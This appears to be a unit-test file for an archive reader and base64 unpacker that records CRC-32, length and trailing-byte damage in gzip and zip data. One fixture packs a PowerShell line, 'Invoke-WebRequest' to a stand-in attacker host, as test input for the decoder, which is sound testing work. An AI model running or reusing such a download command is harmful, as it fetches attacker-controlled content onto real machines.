@@ -1,0 +1,179 @@
+/**
+ * Damaged archives whose bytes still decode: a gzip member whose CRC-32 or
+ * length (ISIZE) trailer does not match, a zip member whose bytes do not have
+ * the CRC-32 its directory states. What could be read is kept, and the damage
+ * is stated in the member's note (the item's `limit` in base64 unpacking), as
+ * for truncated streams.
+ */
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import zlib from "node:zlib";
+import { zipSync } from "fflate";
+import { readArchive } from "../../src/transform/archives";
+import { base64 } from "../../src/transform/base64Unpack";
+
+const limits = (cap = 1 << 20) => ({ maxMembers: 100, maxExpandedBytes: cap, budget: { remaining: 1 << 30 } });
+
+/** Payloads of several kinds and sizes: empty, short text, repetitive text (long matches), bytes that do not compress. */
+const PAYLOADS: Buffer[] = [
+  Buffer.alloc(0),
+  Buffer.from("hello"),
+  Buffer.from("a payload that compresses well, with some variety 0123456789 ".repeat(40)),
+  Buffer.from(Array.from({ length: 3000 }, (_, k) => (k * 7919 + (k >> 3) * 31) & 0xff)),
+];
+
+const flip = (b: Uint8Array, at: number, mask = 0x01) => {
+  const c = Buffer.from(b);
+  c[at] ^= mask;
+  return c;
+};
+
+const CRC_NOTE = /^corrupt data: CRC-32 mismatch/;
+const LENGTH_NOTE = /^corrupt data: length mismatch/;
+
+test("gzip: any changed byte of the CRC-32 or ISIZE trailer keeps the decoded bytes and states the mismatch", () => {
+  for (const payload of PAYLOADS) {
+    const gz = zlib.gzipSync(payload);
+    const n = gz.length;
+    for (let k = 0; k < 8; k++) {
+      for (const mask of [0x01, 0x80]) {
+        const r = readArchive(flip(gz, n - 8 + k, mask), "gz", limits());
+        assert.equal(r.members.length, 1);
+        assert.deepEqual(Buffer.from(r.members[0].bytes), payload, `payload ${payload.length}, trailer byte ${k}`);
+        // An empty payload's trailer is all zeros: its last size byte changed reads as well as a zero trailer one byte
+        // earlier and ignored bytes after it (still damage, stated); any other payload's trailer cannot shift so.
+        const kind = payload.length === 0 && k === 7 ? /^corrupt data: \d bytes? after the last member, ignored$/ : k < 4 ? CRC_NOTE : LENGTH_NOTE;
+        assert.match(r.members[0].note ?? "", kind, `payload ${payload.length}, trailer byte ${k}`);
+        assert.equal(r.note, undefined, "damage is the member's note, not a limit of the archive");
+      }
+    }
+    // Intact, it has no note.
+    assert.equal(readArchive(gz, "gz", limits()).members[0].note, undefined);
+  }
+});
+
+test("gzip: a changed payload bit either breaks the stream (noted) or decodes to other bytes, and then the CRC-32 says so", () => {
+  for (const payload of PAYLOADS.slice(1)) {
+    const gz = zlib.gzipSync(payload);
+    let decodedOther = 0;
+    // Three bits of every byte of the small streams, of bytes spread over the large one (a broken stream costs ms).
+    const step = Math.max(1, Math.floor(gz.length / 100));
+    for (let at = 10; at < gz.length - 8; at += step) {
+      for (const bit of [0, 3, 6]) {
+        const m = readArchive(flip(gz, at, 1 << bit), "gz", limits()).members[0];
+        if (Buffer.from(m.bytes).equals(payload)) continue; // a bit the decoder never reads (padding)
+        // fflate reads some streams zlib rejects (bad code lengths, a missing end of block) into other bytes: the CRC-32 catches them.
+        assert.ok(m.note, `payload ${payload.length}, byte ${at} bit ${bit}: ${m.bytes.length} other bytes without a note`);
+        if (/^corrupt or truncated/.test(m.note)) continue;
+        assert.match(m.note, CRC_NOTE);
+        decodedOther++;
+      }
+    }
+    assert.ok(decodedOther > 0, "some flips decode to other bytes");
+  }
+});
+
+test("gzip with several members: a bad trailer in any of them is stated; intact ones read without a note", () => {
+  const a = zlib.gzipSync(PAYLOADS[2]);
+  const b = zlib.gzipSync(PAYLOADS[3]);
+  const whole = Buffer.concat([PAYLOADS[2], PAYLOADS[3]]);
+  const ok = readArchive(Buffer.concat([a, b]), "gz", limits());
+  assert.deepEqual(Buffer.from(ok.members[0].bytes), whole);
+  assert.equal(ok.members[0].note, undefined);
+  for (const damaged of [Buffer.concat([flip(a, a.length - 7), b]), Buffer.concat([a, flip(b, b.length - 6)])]) {
+    const r = readArchive(damaged, "gz", limits());
+    assert.deepEqual(Buffer.from(r.members[0].bytes), whole);
+    assert.match(r.members[0].note ?? "", CRC_NOTE);
+  }
+});
+
+test("gzip: bytes after the last member that the decoder ignores are stated; the members' bytes are kept", () => {
+  for (const payload of PAYLOADS) {
+    const gz = zlib.gzipSync(payload);
+    for (const tail of ["\n", "\r\n", "xyz"]) {
+      const r = readArchive(Buffer.concat([gz, Buffer.from(tail)]), "gz", limits());
+      assert.deepEqual(Buffer.from(r.members[0].bytes), payload);
+      assert.equal(r.members[0].note, `corrupt data: ${tail.length} byte${tail.length > 1 ? "s" : ""} after the last member, ignored`, JSON.stringify(tail));
+    }
+  }
+});
+
+test("gzip: over the cap, the limit is the note (the output is cut, as before) and the decoders stay bounded", () => {
+  const gz = flip(zlib.gzipSync(PAYLOADS[2]), zlib.gzipSync(PAYLOADS[2]).length - 8);
+  const r = readArchive(gz, "gz", limits(100));
+  assert.equal(r.members[0].bytes.length, 100);
+  assert.match(r.members[0].note ?? "", /^maxExpandedBytes: output stopped at 100 bytes/);
+  assert.match(r.note ?? "", /^maxExpandedBytes/);
+});
+
+/** Offsets of the zip's central-directory entries and local headers, by signature. */
+function zipRecords(zip: Uint8Array): { central: number[]; local: number[] } {
+  const b = Buffer.from(zip);
+  const central: number[] = [];
+  const local: number[] = [];
+  for (let p = 0; p + 4 <= b.length; p++) {
+    const sig = b.readUInt32LE(p);
+    if (sig === 0x02014b50) central.push(p);
+    else if (sig === 0x04034b50) local.push(p);
+  }
+  return { central, local };
+}
+
+test("zip: a member whose bytes do not have the directory's CRC-32 (stored or deflated, payload or CRC changed) is kept, with a note; the others are not", () => {
+  const files = { "deflated.txt": PAYLOADS[2], "stored.bin": PAYLOADS[3], "tiny.txt": PAYLOADS[1] };
+  for (const level of [0, 6] as const) {
+    const zip = zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, new Uint8Array(v)])), { level });
+    const { central, local } = zipRecords(zip);
+    const ok = readArchive(zip, "zip", limits());
+    assert.deepEqual(ok.members.map((m) => [m.name, m.note]), Object.keys(files).map((k) => [k, undefined]));
+    for (let i = 0; i < central.length; i++) {
+      // The directory's CRC-32 changed: the bytes are fine, the archive disagrees with them.
+      const r = readArchive(flip(zip, central[i] + 16 + (i % 4)), "zip", limits());
+      assert.deepEqual(r.members.map((m) => Buffer.from(m.bytes)), Object.values(files));
+      assert.deepEqual(r.members.map((m) => CRC_NOTE.test(m.note ?? "")), Object.keys(files).map((_, k) => k === i), `level ${level}, member ${i}`);
+      assert.equal(r.note, undefined);
+    }
+    // A payload byte changed: whatever it decodes to, it is not the member's bytes unnoted.
+    for (let i = 0; i < local.length; i++) {
+      const start = local[i] + 30 + Buffer.from(zip).readUInt16LE(local[i] + 26);
+      const r = readArchive(flip(zip, start + 2, 0x10), "zip", limits());
+      const m = r.members[i];
+      assert.ok(m.note, `level ${level}, member ${i}: no note`);
+      if (level === 0) {
+        assert.equal(m.bytes.length, Object.values(files)[i].length, "a stored member keeps its bytes");
+        assert.match(m.note, CRC_NOTE);
+      }
+      r.members.forEach((other, k) => k !== i && assert.equal(other.note, undefined));
+    }
+  }
+});
+
+test("zip without a central directory: the local header's CRC-32 is checked when it has one", () => {
+  const zip = zipSync({ "a.txt": new Uint8Array(PAYLOADS[2]), "b.bin": new Uint8Array(PAYLOADS[3]) }, { level: 0 });
+  const { central, local } = zipRecords(zip);
+  const cut = zip.slice(0, central[0]);
+  const ok = readArchive(cut, "zip", limits());
+  assert.match(ok.note ?? "", /no central directory/);
+  assert.deepEqual(ok.members.map((m) => m.note), [undefined, undefined]);
+  const damaged = flip(cut, local[1] + 30 + 5 + 100);
+  const r = readArchive(damaged, "zip", limits());
+  assert.deepEqual(r.members.map((m) => [m.name, CRC_NOTE.test(m.note ?? ""), m.bytes.length]), [["a.txt", false, PAYLOADS[2].length], ["b.bin", true, PAYLOADS[3].length]]);
+});
+
+test("base64 unpacking: a damaged gzip or zip is unpacked all the same, and its item says what is wrong", () => {
+  const gz = zlib.gzipSync(Buffer.from("the secret command line is here, padded to be long enough"));
+  const bad = flip(gz, gz.length - 8);
+  const g = base64.unpack(`cmd ${bad.toString("base64")} end`);
+  assert.equal(g.items.length, 1);
+  assert.equal(g.items[0].decodedString, "the secret command line is here, padded to be long enough");
+  assert.match(String(g.items[0].limit), CRC_NOTE);
+  assert.match(g.fullDecodedString, /limit='corrupt data: CRC-32 mismatch/);
+  assert.equal(base64.unpack(`cmd ${gz.toString("base64")} end`).items[0].limit, null);
+
+  const zip = zipSync({ "run.ps1": new Uint8Array(Buffer.from("Invoke-WebRequest -Uri http://evil.example/x")) }, { level: 0 });
+  const { central } = zipRecords(zip);
+  const z = base64.unpack(Buffer.from(flip(zip, central[0] + 16)).toString("base64"));
+  assert.equal(z.items.length, 1);
+  assert.equal(z.items[0].decodedString, "Invoke-WebRequest -Uri http://evil.example/x");
+  assert.match(String(z.items[0].limit), CRC_NOTE);
+});
